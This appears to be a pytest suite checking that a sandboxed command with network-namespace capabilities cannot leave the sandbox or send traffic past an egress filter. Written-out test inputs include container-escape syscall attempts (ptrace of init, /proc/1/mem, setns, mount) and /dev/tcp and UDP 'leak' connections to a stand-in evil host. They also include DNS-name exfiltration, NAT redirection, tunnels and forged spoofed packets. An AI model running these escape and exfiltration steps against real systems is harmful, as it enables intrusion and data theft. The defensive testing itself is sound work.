# SPDX-License-Identifier: GPL-2.0-or-later
"""egress_run.capabilities "namespace": root-like within its own network, and
the gate stands on the other side of the link.

The command does with ip, nft, tcpdump and raw sockets what it wants; what
arrives at the far ends is what it was allowed before.
"""
import json

import pytest

import lab
from escape_helpers import PYTHON, home_of, program
from gate_helpers import EVIL, GOOD, HOST, echo, ip, tcp, udp

pytestmark = pytest.mark.usefixtures("egress")


@pytest.fixture
def home(egress, who):
    with home_of(who) as made:
        yield made


@pytest.fixture
def caps(home):
    """Options of a run that has them; working folder granted."""
    path = home.profile("caps", {
        "egress_run": {"capabilities": "namespace"},
        "filesystem": {"allow": ["$WORKDIR"]},
        "network": {"allow_domain": ["allowed.test"]}})
    return ["--files", "profile", "-q", "-p", path]


def shell(caps, home, script, **options):
    return lab.egress([*caps, "bash", "-c", script], user=home.name,
                      cwd=home.work, **{"timeout": 40, **options})


def told(caps, home, body, **where):
    got = lab.egress([*caps, PYTHON, "-c", program(body, **where)],
                     user=home.name, cwd=home.work, timeout=40)
    assert got.ok, got
    return json.loads(got.out)


# ---- it works ---------------------------------------------------------------

def test_tools_work_inside(caps, home):
    """What a test suite of network programs does."""
    script = """set -e
ip link add v0 type veth peer name v1
ip link add br0 type bridge
ip link set v0 master br0
ip addr add 10.9.0.1/24 dev v1
ip link set v0 up; ip link set v1 up; ip link set br0 up
nft add table inet mine
nft add chain inet mine in '{ type filter hook input priority 0; }'
nft add rule inet mine in tcp dport 7777 drop
nft list ruleset | grep -c 'dport 7777'
ping -c1 -W1 10.9.0.1 >/dev/null && echo ping
[ $(id -u) != 0 ] || exit 0   # it would change to its own account
timeout 9 tcpdump -ni lo -c 1 udp port 9 2>log >dump &
until grep -q '^listening' log; do read -t 0.01 x || :; done
echo x >/dev/udp/127.0.0.1/9; wait
grep -c 127.0.0.1.9 dump
"""
    got = shell(caps, home, script)
    assert got.ok, got
    # The rule, "ping" and the packet.
    assert got.out.splitlines() == ["1", "ping"] + ["1"] * (home.name != "root")


def test_switches_of_the_network(caps, home):
    """net.* is that of its own network; no other switch is writable."""
    def switch(name):
        with open(f"/proc/sys/{name}") as f:
            return f.read().strip()
    before = {x: switch(x) for x in ("net/ipv4/ip_forward",
                                     "net/core/somaxconn", "vm/swappiness")}
    got = shell(caps, home, """
for name in net/ipv4/ip_forward net/core/somaxconn vm/swappiness; do
echo 1 >/proc/sys/$name && cat /proc/sys/$name || echo no
done 2>/dev/null""")
    assert got.out == "1\n1\nno\n", got
    assert before == {x: switch(x) for x in before}
    got = lab.egress(["--files", "profile", "-q", "sh", "-c",
                      "echo 1 >/proc/sys/net/ipv4/ip_forward"],
                     user=home.name, cwd=home.work)
    assert not got.ok, got


def test_sockets_that_need_them(caps, home):
    body = """
attempt("raw", socket.socket, socket.AF_INET, socket.SOCK_RAW, 1)
attempt("packet", socket.socket, socket.AF_PACKET, socket.SOCK_RAW, 768)
attempt("netfilter", socket.socket, socket.AF_NETLINK, socket.SOCK_RAW, 12)
attempt("port 80", socket.socket().bind, ("127.0.0.1", 80))
"""
    assert set(told(caps, home, body).values()) == {"done"}


def test_without_the_key(home):
    got = lab.egress(["--files", "profile", "-q", "sh", "-c",
                      "ip link add v0 type veth || nft list ruleset || "
                      "echo none"], user=home.name, cwd=home.work)
    assert got.out == "none\n", got


# ---- it is all there is -----------------------------------------------------

KEPT_AWAY = {"sys_admin": 21, "sys_ptrace": 19, "setfcap": 31, "sys_module": 16,
             "sys_rawio": 17, "sys_boot": 22, "sys_time": 25, "syslog": 34,
             "bpf": 39, "perfmon": 38, "checkpoint_restore": 40,
             "mac_admin": 33, "mac_override": 32, "audit_control": 30}


def test_capabilities_that_are_left_out(caps, home):
    body = """
status = dict(x.split(":\\t") for x in open("/proc/self/status").read()
              .splitlines() if ":\\t" in x)
for name in "CapPrm", "CapEff", "CapBnd", "CapAmb", "CapInh":
    attempt(name, lambda: status[name])
attempt("no_new_privs", lambda: status["NoNewPrivs"])
attempt("securebits", lambda: libc.prctl(27))
"""
    got = told(caps, home, body)
    for name in "CapPrm", "CapEff", "CapBnd", "CapInh":
        held = int(got[name], 16)
        assert not [x for x, bit in KEPT_AWAY.items() if held >> bit & 1], got
        assert held >> 12 & 1 and held >> 13 & 1, got  # NET_ADMIN, NET_RAW
    assert got["no_new_privs"] == "1"
    assert got["securebits"] & 0b11 == 0b11, got


ESCAPES = """
path = WHERE["path"]
attempt("other files", read, path)
attempt("denied", read, WHERE["denied"])
attempt("umount", lambda: syscall(166, WHERE["denied"], 2))
call("mount", 165, "t", "/tmp", "tmpfs", 0, None)
call("remount", 165, None, "/", None, 0x21, None)
call("bind", 165, "/usr", "/tmp", None, 0x1000, None)
call("open_tree", 428, -100, "/", 1)
call("unshare", 272, 0x20000)
call("userns", 272, 0x10000000)
attempt("setns", lambda: syscall(308, os.open("/proc/1/ns/net", 0), 0))
attempt("chroot out", in_child, lambda: (os.mkdir("/tmp/c"),
        os.chroot("/tmp/c"), os.chdir("../../../../.."),
        read(path.lstrip("/"))))
attempt("by handle", lambda: syscall(304, -100, ctypes.create_string_buffer(99),
                                     0))
call("ptrace of init", 101, 16, 1, 0, 0)
attempt("mem of init", lambda: os.open("/proc/1/mem", os.O_RDWR))
attempt("getfd of init", lambda: syscall(438, os.pidfd_open(1), 3, 0))
attempt("root of init", lambda: os.listdir("/proc/1/root/etc"))
attempt("device", os.mknod, "/tmp/disk", 0o60666, 0xFE00)
attempt("device in the folder", os.mknod, "disk", 0o60666, 0xFE00)
attempt("time", lambda: syscall(227, 1, 0))
attempt("core_pattern", lambda: os.open("/proc/sys/kernel/core_pattern", 1))
attempt("dmesg", lambda: syscall(103, 3, ctypes.create_string_buffer(99), 99))
attempt("bpf", lambda: syscall(321, 0, 0, 0))
attempt("raise", lambda: libc.prctl(24, 21) and "EPERM" or "EPERM")
attempt("setuid", in_child, os.setuid, 0 if os.getuid() else 3000)
attempt("read only", lambda: os.open("/usr/bin/env", os.O_WRONLY))
attempt("chmod read only", os.chmod, "/usr/bin/env", 0o777)
attempt("chown", os.chown, "own", 1, 1)
attempt("nice", os.nice, -5)
attempt("core", lambda: syscall(160, 4, (ctypes.c_long * 2)(-1, -1)))
attempt("tty", lambda: os.open("/dev/console", os.O_RDWR))
attempt("quota", lambda: syscall(179, 0, "/", 0, 0))
attempt("keys", lambda: syscall(250, 0, -3, 0))
attempt("vsock", socket.socket, 40, 1)
attempt("hostname", socket.sethostname, "evil")
attempt("kill", os.kill, WHERE["pid"], 15)
"""


def test_they_open_nothing_else(caps, home):
    """Files, processes and the machine are as closed as without."""
    secret = home.write(".ssh/id", "secret")
    home.write("work/own", "x")
    denied = home.write("work/denied", "secret")
    home.profile("caps", {
        "egress_run": {"capabilities": "namespace"},
        "filesystem": {"allow": [str(home.work)], "deny": [str(denied)]}})
    with lab.started(["sleep", "1000"], home.name) as victim:
        got = told(caps, home, ESCAPES, path=secret, denied=denied,
                   pid=victim.pid)
        assert victim.poll() is None
    closed = {"EPERM", "EACCES", "EROFS", "ENOENT", "EINVAL", "ESRCH",
              "EAFNOSUPPORT"}
    # The mask is empty, and capabilities over one's own files stay.
    assert got.pop("denied") in ("", "EACCES"), got
    opened = {x: y for x, y in got.items() if y not in closed}
    # Within the run: its priority, and a dump that has the limit one.
    assert not opened, opened
    assert denied.read_text() == "secret"


# ---- the gate ---------------------------------------------------------------

# All at once; nothing is sent to what would answer after the end. (TCP to port
# 53 of anybody would reach the DNS filter.)
TRY = """
dial() { timeout 2 bash -c "exec 3<>/dev/tcp/$1/$2 &&
    { [ $2 != 22 ] || read -r x <&3; }" 2>/dev/null && echo "OPEN $1 $2"; }
udp() { echo leak >/dev/udp/$1/$2; } 2>/dev/null
name() { timeout 4 getent ahostsv4 $1 && echo "OPEN dns"; }
everything() {
    dial %(evil4)s 22 & dial %(evil4)s 80 & dial %(evil6)s 80 &
    dial %(host4)s 8000 & dial 172.16.5.5 8000 & dial 8.8.8.8 853 &
    udp %(evil4)s 9999; udp %(evil6)s 9999; udp 8.8.8.8 53; udp 1.1.1.1 53
    udp %(host4)s 8002; udp 255.255.255.255 9999
    ping -c1 -W1 %(evil4)s >/dev/null 2>&1 && echo "OPEN ping" &
    name evil.test & name leaked-by-name.evil.test &
    wait
} 2>/dev/null
"""
RECONFIGURE = {
    "nothing": "",
    "flush": "nft flush ruleset; ip route flush cache",
    "address": "ip addr flush dev eth0; ip addr add 192.0.2.77/24 dev eth0; "
               "ip -6 addr add 2001:db8::77/64 dev eth0 nodad; "
               "ip route replace default dev eth0; "
               "ip -6 route replace default dev eth0",
    "gateway's address": "ip addr add 192.0.0.1/32 dev lo; "
                         "ip route replace default dev eth0",
    "routes": "ip route add 203.0.113.0/24 via 192.0.0.1; "
              "ip route replace 192.0.2.0/24 dev eth0; "
              "ip route replace 172.16.0.0/12 dev eth0; "
              "ip rule add from all lookup main pref 1",
    "neighbours": "ip neigh replace 203.0.113.10 lladdr 02:00:00:00:00:01 "
                  "dev eth0; ip neigh replace 192.0.0.1 lladdr "
                  "ff:ff:ff:ff:ff:ff dev eth0",
    "link": "ip link set eth0 down; ip link set eth0 address "
            "02:00:00:00:00:77; ip link set eth0 mtu 9000; "
            "ip link set eth0 up; ip addr add 192.0.0.2/29 dev eth0; "
            "ip route add default via 192.0.0.1",
    "masquerade": "nft add table ip n; nft add chain ip n o '{ type nat hook "
                  "postrouting priority 100; }'; nft add rule ip n o "
                  "snat to 192.0.2.1; sysctl -qw net.ipv4.ip_forward=1",
    "redirection": "nft add table ip n; nft add chain ip n o '{ type nat hook "
                   "output priority -100; }'; nft add rule ip n o ip daddr "
                   f"{GOOD[4]} dnat to {EVIL[4]}",
    "tunnel": f"ip link add t0 type gre local 192.0.0.2 remote {EVIL[4]}; "
              "ip link set t0 up; ip route replace 203.0.113.0/24 dev t0; "
              f"ip link add x0 type vxlan id 7 remote {EVIL[4]} dstport 9999 "
              "dev eth0; ip link set x0 up; ip route add 8.8.8.8 dev x0",
    "vlan": "ip link add link eth0 name v7 type vlan id 7; ip link set v7 up; "
            "ip addr add 192.0.2.78/24 dev v7; ip route replace default "
            "dev v7",
    "macvlan": "ip link add m0 link eth0 type macvlan; ip link set m0 up; "
               "ip addr add 192.0.2.79/24 dev m0; ip route replace default "
               "dev m0",
    "move": "ip link set eth0 netns 1; ip link set eth0 name wan0",
}


@pytest.mark.parametrize("what", RECONFIGURE)
def test_reconfiguration_opens_nothing(caps, home, far, what):
    """From inside, with ip and nft; at the far ends nothing arrives."""
    names = {"evil4": EVIL[4], "evil6": EVIL[6], "host4": HOST[4]}
    # The control is the same, from the host.
    got = lab.host(["bash", "-c", TRY % names + "everything"], timeout=40)
    assert f"OPEN {EVIL[4]} 22" in got.out and "OPEN dns" in got.out, got
    assert far.wire() and far.host() and far.dns("evil.test")
    # Until it has closed its connections, their last packets are its own.
    lab.wait_until(lambda: EVIL[4] not in lab.host(
        ["ss", "-Htn", "state", "connected", "exclude", "time-wait"]).out)
    far.mark()
    script = f"{TRY % names}\n{RECONFIGURE[what]}\neverything\necho end"
    got = shell(caps, home, script)
    assert got.ok and got.out.splitlines() == ["end"], got
    assert far.wire() == [] and far.host() == [] and far.dns() == []


RAW = """
s = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM)
for mac in WHERE["macs"]:
    for text in WHERE["packets"]:
        packet = bytes.fromhex(text)
        s.sendto(packet, ("eth0", 0x0800 if packet[0] >> 4 == 4 else 0x86DD, 0,
                          0, bytes.fromhex(mac)))
    # ARP: the gateway's address is ours, and a question for the evil host.
    for kind, src, dst in (2, "192.0.0.1", "192.0.0.1"), \\
            (1, "192.0.2.1", "203.0.113.10"), (2, "192.0.2.2", "192.0.2.1"):
        s.sendto(struct.pack("!HHBBH6s4s6s4s", 1, 0x800, 6, 4, kind,
                             b"\\2\\0\\0\\0\\0\\1", socket.inet_aton(src),
                             bytes(6), socket.inet_aton(dst)),
                 ("eth0", 0x0806, 0, 0, bytes.fromhex(mac)))
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
for text in WHERE["packets"]:
    packet = bytes.fromhex(text)
    if packet[0] >> 4 == 4:
        try:
            raw.sendto(packet, (socket.inet_ntoa(packet[16:20]), 0))
        except OSError:
            pass
attempt("sent", lambda: "all")
"""


def test_forged_packets(caps, home, far):
    """Any source, to any destination, to the router's address and to all."""
    sources = ("192.0.0.2", "192.0.0.1", "192.0.2.1", "192.0.2.53",
               "127.0.0.1", "8.8.8.8", EVIL[4])
    packets = []
    for src in sources:
        packets += [ip(src, EVIL[4], 17, udp(src, EVIL[4], 9999)),
                    ip(src, EVIL[4], 6, tcp(src, EVIL[4], 22)),
                    ip(src, HOST[4], 17, udp(src, HOST[4], 8002)),
                    ip(src, EVIL[4], 1, echo(src, EVIL[4])),
                    ip(src, "8.8.8.8", 17, udp(src, "8.8.8.8", 53,
                                               lab.dns_message(
                                                   "forged.evil.test")))]
    packets.append(ip("2001:2::2", EVIL[6], 17,
                      udp("2001:2::2", EVIL[6], 9999)))
    far.mark()
    got = told(caps, home, RAW, macs=["ffffffffffff", "020000000001"],
               packets=[x.hex() for x in packets])
    assert got == {"sent": "all"}
    assert far.wire() == [] and far.host() == [] and far.dns() == []


def test_the_allowed_works_all_the_same(caps, home, far):
    """After flushing what is there, names and addresses are as before."""
    got = shell(caps, home, "nft flush ruleset; ip rule add from all lookup "
                            "main pref 7; curl -4sS -m 9 http://allowed.test/")
    assert got.out == "OK allowed.test 198.51.100.10\n", got
    assert {x.name for x in far.dns()} == {"allowed.test"}


def test_filter_is_not_redirected(caps, home, far):
    """The DNS listener is the filter's own socket inside: answers that the
    command forges to itself admit nothing."""
    got = shell(caps, home, "nft add table ip n; nft add chain ip n o '{ type "
                "nat hook output priority -100; }'; nft add rule ip n o udp "
                f"dport 53 dnat to {EVIL[4]}:53; getent ahostsv4 allowed.test;"
                f" timeout 3 bash -c 'exec 3<>/dev/tcp/{EVIL[4]}/80' && "
                "echo OPEN; echo end")
    assert got.out.splitlines()[-1] == "end" and "OPEN" not in got.out, got
    assert not far.wire(EVIL[4]) and not far.http()


def test_listener_in_the_place_of_the_filter(caps, home, far):
    """The command binds port 53 itself or kills the route to the filter: its
    own names suffer, nothing opens."""
    body = """
for family, address in (2, ""), (2, "127.0.0.1"), (2, "192.0.0.2"):
    for kind in 1, 2:
        s = socket.socket(family, kind)
        s.setsockopt(1, 2, 1)
        s.setsockopt(1, 15, 1)
        attempt(f"{address} {kind}", s.bind, (address, 53))
def query(address):
    s = socket.create_connection((address, 80), 2)
attempt("evil", query, WHERE["evil"])
"""
    got = told(caps, home, body, evil=EVIL[4])
    assert got["evil"] != "done"
    assert far.wire(EVIL[4]) == []
